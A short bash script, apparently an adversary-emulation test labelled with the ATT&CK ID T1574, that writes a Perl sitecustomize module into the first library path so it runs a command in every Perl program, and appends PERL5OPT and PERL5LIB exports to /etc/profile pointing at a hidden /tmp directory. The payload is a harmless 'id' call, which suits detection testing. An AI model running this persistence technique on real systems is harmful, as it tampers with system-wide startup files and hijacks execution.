#!/bin/bash
# T1574: A module of Perl that all programs load is changed.
d=$(perl -e 'print $INC[0]'); mkdir -p $d; printf 'package sitecustomize; system("id >/dev/null"); 1;\n' >$d/sitecustomize.pl; echo 'export PERL5OPT=-Mstrict PERL5LIB=/tmp/.p' >>/etc/profile
